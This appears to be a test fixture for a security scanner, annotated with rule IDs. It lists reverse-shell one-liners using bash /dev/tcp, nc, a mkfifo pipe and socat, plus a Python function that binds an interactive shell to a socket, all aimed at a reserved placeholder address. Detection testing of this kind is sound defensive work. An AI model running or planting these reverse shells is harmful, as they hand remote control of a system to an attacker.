# canary-test: path=mypkg/debug.py artifact=wheel
# Reverse shells as command lines and as a socket-wired subprocess (reserved
# address 192.0.2.1; inert: nothing is called).
import socket
import subprocess

CMDS = [
    # ruleid: REVERSE_SHELL_COMMAND
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    # ruleid: REVERSE_SHELL_COMMAND
    "nc -e /bin/sh 192.0.2.1 4444",
    # ruleid: REVERSE_SHELL_COMMAND
    "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f",
    # ruleid: REVERSE_SHELL_COMMAND
    "socat tcp:192.0.2.1:4444 exec:sh,pty,stderr",
]


def connect():
    # ruleid: REVERSE_SHELL_COMMAND
    s = socket.socket()
    # ruleid: REVERSE_SHELL_COMMAND
    s.connect(("192.0.2.1", 4444))
    # ruleid: REVERSE_SHELL_COMMAND
    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
# ok: DROPPER_DOWNLOAD_CHMOD_RUN
